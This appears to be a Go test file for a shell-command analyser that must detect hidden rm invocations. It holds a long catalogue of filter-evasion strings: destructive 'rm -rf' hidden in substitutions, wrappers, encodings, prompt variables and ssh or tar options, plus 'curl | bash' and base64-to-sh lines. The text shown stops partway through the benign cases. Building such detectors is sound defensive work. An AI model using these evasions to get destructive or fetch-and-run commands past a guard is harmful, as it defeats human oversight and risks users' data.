package shellcmd

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
)

// bypassCase is an attempt to run rm past a rule. Each must yield a Command
// named rm with argv, or (when reason is set) an Unknowable with reason.
type bypassCase struct {
	name   string
	src    string
	argv   []string // the rm command that must be found
	wraps  []string // its wrappers, when checked
	reason string   // the Unknowable that must be reported
}

var victim = []string{"rm", "-rf", "/tmp/victim"}

var bypassCases = []bypassCase{
	{name: "plain", src: "rm -rf /tmp/victim", argv: victim},
	{name: "after semicolon", src: "ls; rm -rf /tmp/victim", argv: victim},
	{name: "after newline", src: "ls\nrm -rf /tmp/victim", argv: victim},
	{name: "and list", src: `true && "rm" -rf /tmp/victim`, argv: victim},
	{name: "or list", src: "false || rm -rf /tmp/victim", argv: victim},
	{name: "background", src: "rm -rf /tmp/victim & wait", argv: victim},
	{name: "pipeline", src: "yes | rm -rf /tmp/victim", argv: victim},
	{name: "negated", src: "! rm -rf /tmp/victim", argv: victim},
	{name: "subshell", src: "(cd /; rm -rf /tmp/victim)", argv: victim},
	{name: "block", src: "{ rm -rf /tmp/victim; }", argv: victim},
	{name: "if cond", src: "if rm -rf /tmp/victim; then :; fi", argv: victim},
	{name: "elif body", src: "if false; then :; elif true; then rm -rf /tmp/victim; else :; fi", argv: victim},
	{name: "while body", src: "while true; do rm -rf /tmp/victim; break; done", argv: victim},
	{name: "until cond", src: "until rm -rf /tmp/victim; do :; done", argv: victim},
	{name: "for body", src: "for i in 1; do rm -rf /tmp/victim; done", argv: victim},
	{name: "c for", src: "for ((i=0;i<1;i++)); do rm -rf /tmp/victim; done", argv: victim},
	{name: "case arm", src: "case x in x) rm -rf /tmp/victim;; esac", argv: victim},
	{name: "function body", src: "f() { rm -rf /tmp/victim; }; f", argv: victim},
	{name: "function keyword", src: "function f { rm -rf /tmp/victim; }", argv: victim},
	{name: "command substitution", src: "echo $(rm -rf /tmp/victim)", argv: victim},
	{name: "backquotes", src: "echo `rm -rf /tmp/victim`", argv: victim},
	{name: "substitution in quotes", src: `echo "$(rm -rf /tmp/victim)"`, argv: victim},
	{name: "process substitution", src: "cat <(rm -rf /tmp/victim)", argv: victim},
	{name: "substitution in redirect", src: "echo x > $(rm -rf /tmp/victim)", argv: victim},
	{name: "substitution in assignment", src: "X=$(rm -rf /tmp/victim)", argv: victim},
	{name: "substitution in array index", src: "a[$(rm -rf /tmp/victim)]=1", argv: victim},
	{name: "substitution in arithmetic", src: "echo $((1+$(rm -rf /tmp/victim)))", argv: victim},
	{name: "substitution in test", src: "[[ -n $(rm -rf /tmp/victim) ]]", argv: victim},
	{name: "substitution in case word", src: "case $(rm -rf /tmp/victim) in *) ;; esac", argv: victim},
	{name: "substitution in for list", src: "for i in $(rm -rf /tmp/victim); do :; done", argv: victim},
	{name: "substitution in default", src: "echo ${x:-$(rm -rf /tmp/victim)}", argv: victim},
	{name: "substitution in here-doc", src: "cat <<EOF\n$(rm -rf /tmp/victim)\nEOF", argv: victim},
	{name: "coproc", src: "coproc rm -rf /tmp/victim", argv: victim},
	{name: "time keyword", src: "time rm -rf /tmp/victim", argv: victim, wraps: []string{"time"}},
	{name: "double quoted name", src: `"rm" -rf /tmp/victim`, argv: victim},
	{name: "single quoted name", src: `'rm' -rf /tmp/victim`, argv: victim},
	{name: "backslash in name", src: `r\m -rf /tmp/victim`, argv: victim},
	{name: "leading backslash", src: `\rm -rf /tmp/victim`, argv: victim},
	{name: "empty quotes in name", src: `r""m -r''f /tmp/vic"ti"m`, argv: victim},
	{name: "line continuation", src: "r\\\nm -rf /tmp/victim", argv: victim},
	{name: "ansi-c hex", src: `$'\x72\x6d' -rf /tmp/victim`, argv: victim},
	{name: "ansi-c octal", src: `$'\162\155' -rf /tmp/victim`, argv: victim},
	{name: "ansi-c unicode", src: `$'\u0072m' -rf /tmp/victim`, argv: victim},
	{name: "locale string", src: `$"rm" -rf /tmp/victim`, argv: victim},
	{name: "absolute path", src: "/bin/rm -rf /tmp/victim", argv: []string{"/bin/rm", "-rf", "/tmp/victim"}},
	{name: "relative path", src: "../../bin/rm -rf /tmp/victim", argv: []string{"../../bin/rm", "-rf", "/tmp/victim"}},
	{name: "brace expansion", src: "{rm,-rf,/tmp/victim}", argv: victim},
	{name: "brace in name", src: "r{m,} -rf /tmp/victim", argv: []string{"rm", "r", "-rf", "/tmp/victim"}},
	{name: "IFS separator", src: "rm${IFS}-rf${IFS}/tmp/victim", argv: victim},
	{name: "short IFS", src: "rm$IFS-rf$IFS/tmp/victim", argv: victim},
	{name: "bash -c", src: `bash -c 'r\m -rf /tmp/victim'`, argv: victim, wraps: []string{"bash -c"}},
	{name: "sh -c", src: `sh -c "rm -rf /tmp/victim"`, argv: victim, wraps: []string{"sh -c"}},
	{name: "bash cluster -ec", src: `/bin/bash -ec 'rm -rf /tmp/victim'`, argv: victim, wraps: []string{"bash -c"}},
	{name: "bash -o opt -c", src: `bash -o pipefail -c 'rm -rf /tmp/victim'`, argv: victim},
	{name: "bash -c --", src: `bash -c -- 'rm -rf /tmp/victim'`, argv: victim},
	{name: "zsh -c", src: `zsh -c 'rm -rf /tmp/victim'`, argv: victim},
	{name: "dash -c", src: `dash -c 'rm -rf /tmp/victim'`, argv: victim},
	{name: "fish -c", src: `fish -c 'rm -rf /tmp/victim'`, argv: victim},
	{name: "nested -c", src: `bash -c "sh -c 'rm -rf /tmp/victim'"`, argv: victim, wraps: []string{"bash -c", "sh -c"}},
	{name: "-c syntax error after", src: `bash -c 'rm -rf /tmp/victim; echo "'`, argv: victim},
	{name: "sudo", src: "sudo rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
	{name: "sudo -u", src: "sudo -u root rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
	{name: "sudo options", src: "sudo -E -H -n -u root -g wheel -- rm -rf /tmp/victim", argv: victim},
	{name: "sudo long options", src: "sudo --user=root --preserve-env rm -rf /tmp/victim", argv: victim},
	{name: "sudo abbreviated option", src: "sudo --us root rm -rf /tmp/victim", argv: victim},
	{name: "sudo abbreviated option reported", src: "sudo --us root rm -rf /tmp/victim", reason: ReasonWrapperArg},
	{name: "sudo attached user", src: "sudo -uroot rm -rf /tmp/victim", argv: victim},
	{name: "sudo env assignment", src: "sudo FOO=bar rm -rf /tmp/victim", argv: victim},
	{name: "sudo path", src: "/usr/bin/sudo rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
	{name: "sudo sh -c", src: "sudo sh -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"sudo", "sh -c"}},
	{name: "doas", src: "doas -u root rm -rf /tmp/victim", argv: victim, wraps: []string{"doas"}},
	{name: "wrapper chain", src: "env X=1 nice -n5 timeout 3 rm -rf /tmp/victim", argv: victim, wraps: []string{"env", "nice", "timeout"}},
	{name: "env options", src: "env -i -u HOME -C / X=1 rm -rf /tmp/victim", argv: victim},
	{name: "env -S", src: "env -S'rm -rf' /tmp/victim", argv: victim},
	{name: "nice legacy", src: "nice -10 rm -rf /tmp/victim", argv: victim},
	{name: "timeout options", src: "timeout -s KILL -k 5 10s rm -rf /tmp/victim", argv: victim},
	{name: "timeout long", src: "timeout --signal=KILL --foreground 10 rm -rf /tmp/victim", argv: victim},
	{name: "nohup", src: "nohup rm -rf /tmp/victim &", argv: victim},
	{name: "stdbuf", src: "stdbuf -oL -e 0 rm -rf /tmp/victim", argv: victim},
	{name: "time program", src: "/usr/bin/time -f %e -o /dev/null rm -rf /tmp/victim", argv: victim},
	{name: "command", src: "command -p rm -rf /tmp/victim", argv: victim, wraps: []string{"command"}},
	{name: "builtin", src: "builtin command rm -rf /tmp/victim", argv: victim},
	{name: "exec", src: "exec -a x rm -rf /tmp/victim", argv: victim, wraps: []string{"exec"}},
	{name: "chroot", src: "chroot / rm -rf /tmp/victim", argv: victim},
	{name: "ionice", src: "ionice -c2 -n 7 rm -rf /tmp/victim", argv: victim},
	{name: "setsid", src: "setsid -f rm -rf /tmp/victim", argv: victim},
	{name: "unbuffer", src: "unbuffer rm -rf /tmp/victim", argv: victim},
	{name: "busybox", src: "busybox rm -rf /tmp/victim", argv: victim, wraps: []string{"busybox"}},
	{name: "taskset", src: "taskset 0x1 rm -rf /tmp/victim", argv: victim},
	{name: "xargs", src: "echo /tmp/victim | xargs rm -rf", argv: []string{"rm", "-rf"}, wraps: []string{"xargs"}},
	{name: "xargs options", src: "xargs -0 -n 1 -P4 rm -rf /tmp/victim", argv: victim},
	{name: "xargs -I", src: "echo x | xargs -I{} rm -rf /tmp/victim", argv: victim},
	{name: "find -exec", src: `find /tmp -name victim -exec rm -rf {} \;`, argv: []string{"rm", "-rf", "{}"}, wraps: []string{"find -exec"}},
	{name: "find -execdir +", src: "find /tmp -execdir rm -rf /tmp/victim +", argv: victim},
	{name: "eval literal", src: `eval "rm -rf /tmp/victim"`, argv: victim, wraps: []string{"eval"}},
	{name: "eval words", src: `eval rm -rf /tmp/victim`, argv: victim},
	{name: "eval --", src: `eval -- 'rm -rf /tmp/victim'`, argv: victim, wraps: []string{"eval"}},
	// Code bash runs that the parser only sees as quoted text.
	{name: "prompt expansion of a variable", src: `x='$(rm -rf v)'; : "${x@P}"`, reason: ReasonPrompt},
	{name: "[[ -eq ]] subscript", src: `[[ 'a[$(rm -rf v)]' -eq 1 ]]`, reason: ReasonSubscript},
	{name: "[[ -v ]] subscript", src: `[[ -v 'a[$(rm -rf v)]' ]]`, reason: ReasonSubscript},
	{name: "arithmetic expansion subscript", src: `echo $(( 'a[$(rm -rf v)]' ))`, reason: ReasonSubscript},
	{name: "slice offset subscript", src: `echo ${y:'a[$(rm -rf v)]'}`, reason: ReasonSubscript},
	{name: "quoted index", src: `echo ${a['$(rm -rf v)']}`, reason: ReasonSubscript},
	{name: "quoted index assigned", src: `a['$(rm -rf v)']=1`, reason: ReasonSubscript},
	{name: "declare quoted subscript", src: `declare "a[\$(rm -rf v)]=1"`, reason: ReasonSubscript},
	{name: "single quotes in $(( ))", src: `echo $(( '$(rm -rf v)' ))`, reason: ReasonArithQuoted},
	{name: "single quotes in (( ))", src: `(( '$(rm -rf v)' ))`, reason: ReasonArithQuoted},
	{name: "single quotes in for (( ))", src: `for (( i='$(rm -rf v)'; i<1; i++ )); do :; done`, reason: ReasonArithQuoted},
	{name: "single quotes in a slice", src: `x=abc; echo ${x:'$(rm -rf v)'}`, reason: ReasonArithQuoted},
	{name: "single quotes in a slice length", src: "echo ${x:1:'`rm -rf v`'}", reason: ReasonArithQuoted},
	{name: "compound assignment index", src: `a=(['$(rm -rf v)']=1)`, reason: ReasonSubscript},
	{name: "compound assignment index, double quotes", src: `a=(["\$(rm -rf v)"]=1)`, reason: ReasonSubscript},
	{name: "stored subscript, here-string", src: `read x <<< 'a[$(rm -rf v)]'; echo $((x))`, reason: ReasonStoredSubscript},
	{name: "stored subscript, here-document", src: "mapfile -t a <<'E'\nx[$(rm -rf v)]\nE\n", reason: ReasonStoredSubscript},
	{name: "stored subscript, $((x))", src: `x='a[$(rm -rf v)]'; echo $((x))`, reason: ReasonStoredSubscript},
	{name: "stored subscript, backquote", src: "x='a[`rm -rf v`]'", reason: ReasonStoredSubscript},
	{name: "stored subscript, declare", src: `declare -x y='a[${ rm -rf v; }]'`, reason: ReasonStoredSubscript},
	{name: "stored subscript, quoted declare", src: `declare "y=a[\$(rm -rf v)]"`, reason: ReasonStoredSubscript},
	{name: "stored subscript, array element", src: `arr=(1 'a[$(rm -rf v)]'); echo $((arr[1]))`, reason: ReasonStoredSubscript},
	{name: "stored subscript, element", src: `m[k]="a[\$(rm -rf v)]"`, reason: ReasonStoredSubscript},
	{name: "export quoted PROMPT_COMMAND", src: `export "PROMPT_COMMAND=rm -rf /tmp/victim"`, argv: victim},
	{name: "declare quoted PS1", src: `declare -x "PS1=\$(rm -rf /tmp/victim)"`, argv: victim},
	// Expanded, with command substitution, when a shell starts or mail
	// arrives.
	{name: "BASH_ENV", src: `export BASH_ENV='$(rm -rf /tmp/victim)'`, argv: victim},
	{name: "BASH_ENV for one command", src: `BASH_ENV='$(rm -rf /tmp/victim)' bash -c true`, argv: victim},
	{name: "env BASH_ENV", src: `env BASH_ENV='$(rm -rf /tmp/victim)' bash -c true`, argv: victim},
	{name: "ENV", src: `ENV='$(rm -rf /tmp/victim)' sh -i`, argv: victim},
	{name: "MAILPATH message", src: `MAILCHECK=0 MAILPATH='/tmp/m?$(rm -rf /tmp/victim)'`, argv: victim},
	{name: "env PROMPT_COMMAND", src: `env PROMPT_COMMAND='rm -rf /tmp/victim' bash -i`, argv: victim},
	{name: "local quoted INPUTRC", src: `local "INPUTRC=/tmp/x"`, reason: ReasonLineEditing},
	{name: "complete -F", src: `complete -I -F f`, reason: ReasonLineEditing},
	{name: "complete -C", src: `complete -C 'echo rm' x`, reason: ReasonLineEditing},
	{name: "complete -oF", src: `complete -o nospace -F_f rm`, reason: ReasonLineEditing},
	{name: "su -c", src: "su -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"su -c"}},
	{name: "su user -c", src: "su - root -c 'rm -rf /tmp/victim'", argv: victim},
	{name: "sudo su -c", src: "sudo su root -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"sudo", "su -c"}},
	{name: "su -- -c", src: "su root -- -c 'rm -rf /tmp/victim'", argv: victim},
	{name: "sudo -s string", src: "sudo -s 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"sudo -s"}},
	{name: "runuser -u", src: "runuser -u root -- rm -rf /tmp/victim", argv: victim},
	{name: "sg", src: "sg wheel -c 'rm -rf /tmp/victim'", argv: victim},
	{name: "flock", src: "flock /tmp/lock rm -rf /tmp/victim", argv: victim},
	{name: "flock -c", src: "flock /tmp/lock -c 'rm -rf /tmp/victim'", argv: victim},
	{name: "script -c", src: "script -q -c 'rm -rf /tmp/victim' /dev/null", argv: victim},
	{name: "watch string", src: "watch 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"watch"}},
	{name: "watch words", src: "watch -n 1 rm -rf /tmp/victim", argv: victim},
	{name: "watch -x", src: "watch -x rm -rf /tmp/victim", argv: victim},
	{name: "ssh remote", src: "ssh -p 22 localhost rm -rf /tmp/victim", argv: victim, wraps: []string{"ssh"}},
	{name: "ssh remote string", src: "ssh localhost 'rm -rf /tmp/victim'", argv: victim},
	{name: "here-doc to bash", src: "bash <<EOF\nrm -rf /tmp/victim\nEOF", argv: victim, wraps: []string{"bash <<"}},
	{name: "quoted here-doc to sh", src: "sh <<'EOF'\nrm -rf /tmp/victim\nEOF", argv: victim},
	{name: "here-string to bash", src: "bash <<< 'rm -rf /tmp/victim'", argv: victim},
	{name: "alias value", src: "alias ls='rm -rf /tmp/victim'", argv: victim, wraps: []string{"alias"}},
	{name: "trap action", src: "trap 'rm -rf /tmp/victim' EXIT", argv: victim, wraps: []string{"trap"}},
	{name: "PROMPT_COMMAND", src: "PROMPT_COMMAND='rm -rf /tmp/victim'", argv: victim},
	{name: "export PROMPT_COMMAND", src: "export PROMPT_COMMAND='rm -rf /tmp/victim'", argv: victim},
	{name: "PS1 substitution", src: `PS1='$(rm -rf /tmp/victim) $ '`, argv: victim},
	{name: "PROMPT_COMMAND array", src: "PROMPT_COMMAND=('rm -rf /tmp/victim')", argv: victim},
	{name: "PROMPT_COMMAND appended array", src: "PROMPT_COMMAND+=(true 'rm -rf /tmp/victim')", argv: victim},
	{name: "declare -a PROMPT_COMMAND", src: "declare -a PROMPT_COMMAND=('rm -rf /tmp/victim')", argv: victim},
	{name: "PS1 array", src: `PS1=('$(rm -rf /tmp/victim)P> ')`, argv: victim},
	{name: "PS0 array", src: `PS0=('$(rm -rf /tmp/victim)')`, argv: victim},
	{name: "PROMPT_COMMAND element", src: "PROMPT_COMMAND[1]='rm -rf /tmp/victim'", argv: victim},
	{name: "printf -v PROMPT_COMMAND", src: "printf -v PROMPT_COMMAND 'rm -rf v2'", reason: ReasonPrompt},
	{name: "printf -v PS1", src: "printf -v PS1 '%s' '$(rm -rf v)'", reason: ReasonPrompt},
	{name: "printf -v a variable name", src: `printf -v "$v" 'rm -rf v2'`, reason: ReasonPrompt},
	{name: "read PROMPT_COMMAND", src: "read -r PROMPT_COMMAND <<< 'rm -rf v3'", reason: ReasonPrompt},
	{name: "read -a PROMPT_COMMAND", src: "read -ra PROMPT_COMMAND <<< 'rm'", reason: ReasonPrompt},
	{name: "read into an element", src: "read 'PROMPT_COMMAND[0]' <<< 'rm'", reason: ReasonPrompt},
	{name: "mapfile PROMPT_COMMAND", src: "mapfile -t PROMPT_COMMAND < cmds", reason: ReasonPrompt},
	{name: "readarray PS1", src: "readarray PS1 < f", reason: ReasonPrompt},
	{name: "getopts into PS1", src: "getopts ab PS1", reason: ReasonPrompt},
	{name: "read BASH_ALIASES", src: "read 'BASH_ALIASES[x]' <<< rm", reason: ReasonPrompt},
	{name: "nameref", src: "declare -n p=PROMPT_COMMAND; p='rm -rf v'", reason: ReasonRebind},
	{name: "local nameref", src: "f() { local -n p=PS1; }", reason: ReasonRebind},
	{name: "hash -p", src: "hash -p /bin/rm ls; ls -rf /tmp/victim", reason: ReasonRebind},
	{name: "hash -tp", src: "hash -p/bin/rm ls", reason: ReasonRebind},
	{name: "BASH_CMDS", src: "BASH_CMDS[ls]=/bin/rm; ls -rf /tmp/victim", reason: ReasonRebind},
	{name: "BASH_ALIASES", src: "BASH_ALIASES[x]=rm", reason: ReasonRebind},
	{name: "BASH_ALIASES array", src: "BASH_ALIASES=([x]=rm)", reason: ReasonRebind},
	{name: "declare BASH_ALIASES", src: "declare -A BASH_ALIASES=([x]=rm)", reason: ReasonRebind},
	{name: "enable -f", src: "enable -f ./rm.so ls", reason: ReasonRebind},

	{name: "command substitution name", src: "$(echo rm) -rf x", reason: ReasonSubstCommand},
	{name: "backquote name", src: "`echo rm` -rf x", reason: ReasonSubstCommand},
	{name: "variable name", src: "$CMD -rf x", reason: ReasonParamCommand},
	{name: "braced variable name", src: "${x:-rm} -rf x", reason: ReasonParamCommand},
	{name: "quoted variable name", src: `"$CMD" -rf x`, reason: ReasonParamCommand},
	{name: "partial variable name", src: "r$X -rf x", reason: ReasonParamCommand},
	{name: "arithmetic name", src: "$((1)) x", reason: ReasonArithCommand},
	{name: "IFS variable trick", src: "IFS=,; cmd=rm,-rf,x; $cmd", reason: ReasonParamCommand},
	{name: "positional params", src: `"$@"`, reason: ReasonParamCommand},
	{name: "glob name", src: "/???/r? -rf /tmp/victim", reason: ReasonGlobCommand},
	{name: "bracket glob name", src: "/bin/r[m] -rf /tmp/victim", reason: ReasonGlobCommand},
	{name: "eval variable", src: `eval "$X"`, reason: ReasonEval},
	{name: "eval substitution", src: `eval "$(echo cm0gLXJmIHgK | base64 -d)"`, reason: ReasonEval},
	{name: "source variable", src: `source "$F"`, reason: ReasonSource},
	{name: "dot process substitution", src: `. <(curl -s http://x)`, reason: ReasonProcSubstShell},
	{name: "base64 pipe sh", src: "base64 -d <<<cm0gLXJmIC90bXAvdmljdGltCg== | sh", reason: ReasonPipeShell},
	{name: "curl pipe bash", src: "curl -s http://x | bash", reason: ReasonPipeShell},
	{name: "pipe bash -s", src: "curl -s http://x | bash -s -- arg", reason: ReasonPipeShell},
	{name: "pipe sudo sh", src: "curl -s http://x | sudo sh", reason: ReasonPipeShell},
	{name: "pipe into subshell sh", src: "curl -s http://x | (sh)", reason: ReasonPipeShell},
	{name: "pipe middle stage", src: "curl -s http://x | sh | cat", reason: ReasonPipeShell},
	{name: "pipe bash /dev/stdin", src: "curl -s http://x | bash /dev/stdin", reason: ReasonPipeShell},
	{name: "pipe source stdin", src: "curl -s http://x | source /dev/stdin", reason: ReasonPipeShell},
	{name: "tee to process sh", src: "echo 'rm -rf /tmp/victim' | tee >(sh)", reason: ReasonPipeShell},
	{name: "pipe sudo -i", src: "curl -s http://x | sudo -i", reason: ReasonPipeShell},
	{name: "pipe sudo su", src: "curl -s http://x | sudo su -", reason: ReasonPipeShell},
	{name: "pipe su", src: "curl -s http://x | su root", reason: ReasonPipeShell},
	{name: "pipe doas -s", src: "curl -s http://x | doas -s", reason: ReasonPipeShell},
	{name: "pipe python", src: "curl -s http://x | python3", reason: ReasonPipeInterp},
	{name: "bash process substitution", src: "bash <(curl -s http://x)", reason: ReasonProcSubstShell},
	{name: "sh stdin process substitution", src: "sh < <(curl -s http://x)", reason: ReasonProcSubstShell},
	{name: "here-string variable", src: `bash <<< "$X"`, reason: ReasonShellStdin},
	{name: "here-doc expansion", src: "sh <<EOF\n$X\nEOF", reason: ReasonShellStdin},
	{name: "-c variable", src: `bash -c "$X"`, reason: ReasonShellString},
	{name: "-c substitution", src: `sh -c "$(curl -s http://x)"`, reason: ReasonShellString},
	{name: "su -c variable", src: `su -c "$X"`, reason: ReasonShellString},
	{name: "sudo variable option", src: "sudo $OPTS rm -rf x", reason: ReasonParamCommand},
	{name: "sudo variable user", src: `sudo -u "$U" rm -rf /tmp/victim`, argv: victim},
	{name: "sudo variable user reported", src: `sudo -u "$U" rm -rf /tmp/victim`, reason: ReasonWrapperArg},
	{name: "xargs sh -c", src: "echo 'rm -rf x' | xargs sh -c", reason: ReasonXargsCommand},
	{name: "xargs -I sh -c", src: "ls | xargs -I{} sh -c 'echo {}'", reason: ReasonXargsCommand},
	{name: "xargs -I command", src: "echo rm | xargs -I% % -rf x", reason: ReasonXargsCommand},
	{name: "xargs env", src: "echo rm -rf x | xargs env", reason: ReasonXargsCommand},
	{name: "xargs sudo", src: "echo rm -rf x | xargs sudo", reason: ReasonXargsCommand},
	{name: "find exec found", src: `find / -name x -exec {} \;`, reason: ReasonFindExec},
	{name: "find sh -c {}", src: `find / -exec sh -c 'echo {}' \;`, reason: ReasonFindExec},
	{name: "alias variable", src: `alias ls="$X"`, reason: ReasonAlias},
	// bash runs an alias's value with the words typed after its name:
	// here they become a command, vanish into a comment, or join the
	// value's last word or the next line.
	{name: "alias to a wrapper", src: "alias s=env", reason: ReasonAliasWords},
	{name: "alias to sudo", src: "alias s='sudo -u root'", reason: ReasonAliasWords},
	{name: "alias to time", src: "alias s=time", reason: ReasonAliasWords},
	{name: "alias to a -c", src: "alias s='bash -c'", reason: ReasonAliasWords},
	{name: "alias ending in a separator", src: "alias s='true;'", reason: ReasonAliasWords},
	{name: "alias ending in a comment", src: "alias s='echo #'", reason: ReasonAliasWords},
	{name: "alias ending in a backslash", src: `alias s='r\'`, reason: ReasonAliasWords},
	{name: "alias to find -exec", src: "alias s='find . -exec'", reason: ReasonAliasWords},
	{name: "fish alias to a wrapper", src: "fish -c 'alias s sudo'", reason: ReasonAliasWords},
	{name: "trap variable", src: `trap "$X" EXIT`, reason: ReasonTrap},
	{name: "trap ignoring Ctrl-C", src: `trap '' INT`, reason: ReasonIgnoreInt},
	{name: "trap ignoring SIGINT by number", src: `trap -- "" TERM 2`, reason: ReasonIgnoreInt},
	{name: "trap ignoring sigint", src: `trap '' sigint`, reason: ReasonIgnoreInt},
	{name: "huge brace", src: "echo {1..100000}", reason: ReasonBraceLimit},
	// A script path known only at run time may be /dev/stdin.
	{name: "shell script from a variable", src: `bash "$f"`, reason: ReasonWrapperArg},
	{name: "shell script under a variable directory", src: `D=/dev; bash $D/stdin`, reason: ReasonWrapperArg},
	// The transfer tools and ssh run commands given in their options.
	{name: "rsync -e", src: `rsync -e 'sh -c "rm -rf /tmp/victim"' a h:b`, argv: victim},
	{name: "rsync --rsh", src: `rsync --rsh 'bash -c "rm -rf /tmp/victim"' a h:b`, argv: victim},
	{name: "rsync --server as an option's value", src: `rsync --rsync-path --server -e 'sh -c "rm -rf /tmp/victim"' a h:b`, argv: victim},
	{name: "rsync --rsync-path", src: `rsync --rsync-path='rm -rf /tmp/victim; rsync' a h:b`, argv: victim},
	{name: "rsync -e ssh with a command option", src: `rsync -e "ssh -o 'ProxyCommand rm -rf /tmp/victim'" a h:b`, argv: victim},
	{name: "rsync -e sh -c runs the host", src: `rsync -e 'sh -c' a 'rm -rf $V;h:b'`, reason: ReasonTransferHost},
	{name: "rsync -e sh -c with a run-time operand", src: `rsync -e 'sh -c' a "$X"`, reason: ReasonTransferHost},
	{name: "RSYNC_RSH", src: `RSYNC_RSH='ssh -o ProxyCommand="rm -rf /tmp/victim"' rsync a h:b`, argv: victim},
	{name: "RSYNC_RSH a shell", src: `export RSYNC_RSH='sh -c'`, reason: ReasonTransferHost},
	{name: "scp -o ProxyCommand", src: `scp -o ProxyCommand='rm -rf /tmp/victim' a h:b`, argv: victim},
	{name: "scp -S", src: `scp -S rm a h:b`, reason: ReasonCodeSetting},
	{name: "scp legacy remote path", src: `scp -O a 'h:$(rm -rf /tmp/victim)'`, argv: victim},
	{name: "sftp -D", src: `sftp -D 'sh -c "rm -rf /tmp/victim"'`, reason: ReasonCodeSetting},
	{name: "sftp -s a command", src: `sftp -s 'rm -rf /tmp/victim' h`, argv: victim},
	{name: "ssh -oProxyCommand", src: `ssh -oProxyCommand='rm -rf /tmp/victim' h true`, argv: victim},
	{name: "ssh -o keyword in any case", src: `ssh -o 'LOCALCOMMAND rm -rf /tmp/victim' -o PermitLocalCommand=yes h`, argv: victim},
	{name: "ssh -o KnownHostsCommand", src: `ssh -o KnownHostsCommand='/bin/sh -c "rm -rf /tmp/victim"' h true`, argv: victim},
	{name: "ssh -o RemoteCommand", src: `ssh -o RemoteCommand='rm -rf /tmp/victim' h`, argv: victim},
	{name: "ssh -o XAuthLocation", src: `DISPLAY=:0 ssh -X -o XAuthLocation=rm h true`, argv: []string{"rm"}},
	{name: "ssh PKCS11Provider", src: `ssh -o PKCS11Provider=/tmp/x.so h true`, reason: ReasonCodeSetting},
	{name: "ssh -I", src: `ssh -I /tmp/x.so h true`, reason: ReasonCodeSetting},
	{name: "tar --to-command", src: `tar -xf a.tar --to-command 'rm -rf /tmp/victim'`, argv: victim},
	{name: "tar -I attached", src: `tar -cf a -I'rm -rf /tmp/victim' b`, argv: victim},
	{name: "tar --checkpoint-action", src: `tar -cf a b --checkpoint-action=exec='rm -rf /tmp/victim'`, argv: victim},
	{name: "tar -F", src: `tar -M -F 'rm -rf /tmp/victim' -cf a b`, argv: victim},
	{name: "tar old style", src: `tar cfI a 'rm -rf /tmp/victim' b`, argv: victim},
	{name: "tar abbreviated", src: `tar -xf a --to-com 'rm -rf /tmp/victim'`, reason: ReasonCodeSetting},
	{name: "TAR_OPTIONS", src: `TAR_OPTIONS='--to-command=x' tar -xf a`, reason: ReasonCodeSetting},
	{name: "ssh -F from the input", src: `ssh -F /dev/stdin h true`, reason: ReasonCodeSetting},
	{name: "scp -F from the input", src: `scp -F /proc/self/fd/0 a h:b`, reason: ReasonCodeSetting},
	{name: "BASH_ENV from a pipe", src: `echo 'rm -rf /tmp/victim' | BASH_ENV=/dev/stdin bash -c true`, reason: ReasonPipeShell},
	{name: "BASH_ENV from a here-document", src: "BASH_ENV=/dev/stdin bash -c true <<EOF\nrm -rf /tmp/victim\nEOF", argv: victim},
	{name: "ssh-copy-id -o ProxyCommand", src: `ssh-copy-id -o ProxyCommand='rm -rf /tmp/victim' h`, argv: victim},
	{name: "borg --rsh", src: `borg --rsh 'rm -rf /tmp/victim' list h:repo`, argv: victim},
	{name: "BORG_RSH", src: `BORG_RSH='rm -rf /tmp/victim' borg list h:repo`, argv: victim},
	{name: "rclone --sftp-ssh", src: `rclone ls --sftp-ssh 'rm -rf /tmp/victim' r:`, argv: victim},
	{name: "unison -sshcmd", src: `unison -sshcmd 'rm -rf /tmp/victim' a ssh://h/b`, argv: victim},
	{name: "sshfs -o ssh_command", src: `sshfs -o reconnect,ssh_command='rm -rf /tmp/victim' h:/ /mnt`, argv: victim},
	{name: "restic -o sftp.command", src: `restic -o sftp.command='rm -rf /tmp/victim' snapshots`, argv: victim},
	{name: "lftp -e", src: `lftp -e '!rm -rf /tmp/victim' h`, reason: ReasonCodeSetting},
	{name: "zip -TT", src: `zip -T -TT 'rm -rf /tmp/victim' a.zip b`, argv: victim},
}

// benignCase is a command that must be reported exactly, with no
// Unknowable.
type benignCase struct {
	name string
	src  string
	want [][]string // argv of every command, in order
}

var benignCases = []benignCase{
	{name: "ls", src: "ls -la /tmp", want: [][]string{{"ls", "-la", "/tmp"}}},
	{name: "aliases taking words", src: "alias ll='ls -l' k='ls | less' ..='cd ..'", want: [][]string{{"alias", "ll=ls -l", "k=ls | less", "..=cd .."}, {"ls", "-l"}, {"ls"}, {"less"}, {"cd", ".."}}},
	{name: "complete -W", src: "complete -W 'start stop' svc; complete -p", want: [][]string{{"complete", "-W", "start stop", "svc"}, {"complete", "-p"}}},
	{name: "variable argument", src: `rm -rf "$HOME/x"`, want: [][]string{{"rm", "-rf", "$HOME/x"}}},
	{name: "braced argument", src: `echo ${x:-a b}`, want: [][]string{{"echo", "${x:-a b}"}}},
	{name: "arithmetic and subscripts", src: `a[i+1]=2; (( a[i] > 0 )); [[ $x -eq 3 ]]; echo ${a[1]} $((x+1)) ${x:1:2} ${x@Q}`, want: [][]string{{"echo", "${a[1]}", "$((x+1))", "${x:1:2}", "${x@Q}"}}},
	{name: "export quoted", src: `export "FOO=bar"`, want: [][]string{{"export", "FOO=bar"}}},
	{name: "substitution argument", src: "echo $(date)", want: [][]string{{"echo", "$(date)"}, {"date"}}},
	{name: "glob argument", src: "ls /tmp/*.log", want: [][]string{{"ls", "/tmp/*.log"}}},
	{name: "quoted glob argument", src: "ls '*'", want: [][]string{{"ls", "*"}}},
	{name: "pipeline", src: "ps aux | grep nginx | wc -l", want: [][]string{{"ps", "aux"}, {"grep", "nginx"}, {"wc", "-l"}}},
	{name: "systemctl", src: "systemctl status nginx", want: [][]string{{"systemctl", "status", "nginx"}}},
